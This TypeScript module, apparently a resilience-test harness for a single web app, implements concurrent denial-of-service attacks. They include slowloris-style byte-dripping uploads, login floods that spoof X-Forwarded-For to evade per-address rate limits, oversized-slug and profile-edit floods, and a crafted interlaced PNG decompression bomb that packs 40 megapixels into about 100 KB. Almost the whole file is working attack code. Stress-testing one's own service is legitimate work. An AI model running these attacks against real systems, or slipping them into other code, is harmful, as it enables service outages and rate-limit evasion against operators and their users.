import { setMaxListeners } from 'node:events'
import { request } from 'node:http'
import { setTimeout as pause } from 'node:timers/promises'
import { crc32, deflateSync } from 'node:zlib'

export interface Victim {
  readonly headers: Readonly<Record<string, string>>
  readonly profileId: string
}

interface AttackTarget {
  readonly url: string
  /** The first account makes the slow uploads; each other one sends a picture and edits its profile. */
  readonly owners: readonly Victim[]
}

export const ATTACKERS = 12
/** More addresses than attackers, because the limits count by address. */
const ADDRESSES = 100
const SLUG_CHARS = [15_000, 7_900] as const

/** A client address, which TRUST_PROXY accepts. */
const from = (n: number) => ({ 'X-Forwarded-For': `10.100.0.${n % ADDRESSES}` })

const JSON_BODY = { 'Content-Type': 'application/json' }

type Attack = (target: AttackTarget, signal: AbortSignal) => Promise<Statuses>

/** Retries after a second: the attack is on connections, not on the database. */
const slowUploads: Attack = ({ url, owners: [owner] }, signal) =>
  flood({ attackers: ATTACKERS, everyMs: 1_000, signal }, () =>
    slowUpload(`${url}/api/upload/profile-image/${owner!.profileId}`, owner!.headers, signal),
  )

async function picture({ url }: AttackTarget, owner: Victim): Promise<number> {
  const body = new FormData()
  body.append('file', new Blob([PICTURE], { type: 'image/png' }), 'foto.png')
  const path = `/api/upload/background-image/${owner.profileId}`
  return statusOf(`${url}${path}`, { method: 'POST', headers: owner.headers, body })
}

/** Waits for the answers even after the other attacks have ended. */
const pictures: Attack = async (target) => {
  const answers = await Promise.all(target.owners.slice(1).map((owner) => picture(target, owner)))
  const statuses: Record<number, number> = {}
  for (const status of answers) statuses[status] = (statuses[status] ?? 0) + 1
  return statuses
}

const logins: Attack = (target, signal) =>
  flood({ attackers: ATTACKERS, everyMs: 100, signal }, (attacker, nth) =>
    statusOf(`${target.url}/api/auth/login`, {
      method: 'POST',
      headers: { ...JSON_BODY, ...from(attacker) },
      body: JSON.stringify({ email: `nadie-${nth}@correo.example`, password: 'Clave-de-nadie-1' }),
    }),
  )

const slugs: Attack = (target, signal) =>
  flood({ attackers: ATTACKERS, everyMs: 20, signal }, (attacker, nth) => {
    const number = nth * ATTACKERS + attacker
    const slug = `${number}-${'x'.repeat(SLUG_CHARS[nth % SLUG_CHARS.length]!)}`
    return statusOf(`${target.url}/pages/${slug}`, { headers: from(number) })
  })

const edits: Attack = ({ url, owners }, signal) =>
  flood({ attackers: ATTACKERS, everyMs: 1_000, signal }, (attacker, nth) => {
    const { headers, profileId } = owners[1 + attacker]!
    const body = JSON.stringify({ bio: `Cambio ${nth}` })
    return statusOf(`${url}/api/profile/${profileId}`, {
      method: 'PUT',
      headers: { ...JSON_BODY, ...headers },
      body,
    })
  })

const ATTACKS = { 'slow uploads': slowUploads, pictures, logins, slugs, edits } as const
type AttackName = keyof typeof ATTACKS

export async function attackAtOnce(
  target: AttackTarget,
  signal: AbortSignal,
): Promise<Readonly<Record<AttackName, Statuses>>> {
  const all = await Promise.all(
    Object.entries(ATTACKS).map(async ([name, attack]) => [name, await attack(target, signal)] as const),
  )
  return Object.fromEntries(all) as Record<AttackName, Statuses>
}

/** Answers by status; 0 means that there was no answer. */
type Statuses = Readonly<Record<number, number>>

interface Flood {
  readonly attackers: number
  /** Pause of each attacker between two calls. */
  readonly everyMs: number
  readonly signal: AbortSignal
}

async function flood(
  { attackers, everyMs, signal }: Flood,
  call: (attacker: number, nth: number) => Promise<number>,
): Promise<Statuses> {
  // Every attacker adds a listener.
  setMaxListeners(0, signal)
  const statuses: Record<number, number> = {}
  const attack = async (attacker: number): Promise<void> => {
    for (let nth = 0; !signal.aborted; nth += 1) {
      const status = await call(attacker, nth).catch(() => 0)
      statuses[status] = (statuses[status] ?? 0) + 1
      await pause(everyMs, undefined, { signal }).catch(() => undefined)
    }
  }
  await Promise.all(Array.from({ length: attackers }, (_none, attacker) => attack(attacker)))
  return statuses
}

async function statusOf(url: string, init: RequestInit): Promise<number> {
  const response = await fetch(url, { redirect: 'manual', ...init })
  await response.arrayBuffer()
  return response.status
}

const DRIP_MS = 100
const PART = '--b\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'

/** Uploads one byte every DRIP_MS. @returns the status; 0 if the upload ended without an answer */
function slowUpload(
  url: string,
  headers: Readonly<Record<string, string>>,
  signal: AbortSignal,
): Promise<number> {
  return new Promise((resolve) => {
    const upload = request(url, {
      method: 'POST',
      agent: false,
      headers: {
        ...headers,
        'Content-Type': 'multipart/form-data; boundary=b',
        'Content-Length': 1_000_000,
      },
    })
    upload.write(PART)
    const drip = setInterval(() => upload.write('x'), DRIP_MS)
    const end = (status: number): void => {
      clearInterval(drip)
      signal.removeEventListener('abort', giveUp)
      upload.destroy()
      resolve(status)
    }
    const giveUp = (): void => end(0)
    signal.addEventListener('abort', giveUp, { once: true })
    upload.once('error', giveUp)
    upload.once('response', (response) => end(response.statusCode ?? 0))
  })
}

const WIDTH = 8_000
const HEIGHT = 5_000
const CHANNELS = 3
/** Adam7: first column, first row, column step and row step of each pass. */
const PASSES = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}

/** A black picture of 40 megapixels in about 100 KB. Interlaced, so that a decoder holds all of it. */
function hugePicture(): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(WIDTH, 0)
  head.writeUInt32BE(HEIGHT, 4)
  head.set([8, 2, 0, 0, 1], 8)
  const bytes = PASSES.reduce((sum, [x, y, everyX, everyY]) => {
    const [columns, rows] = [Math.ceil((WIDTH - x) / everyX), Math.ceil((HEIGHT - y) / everyY)]
    return sum + rows * (1 + columns * CHANNELS)
  }, 0)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1A\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(bytes), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const PICTURE = new Uint8Array(hugePicture())
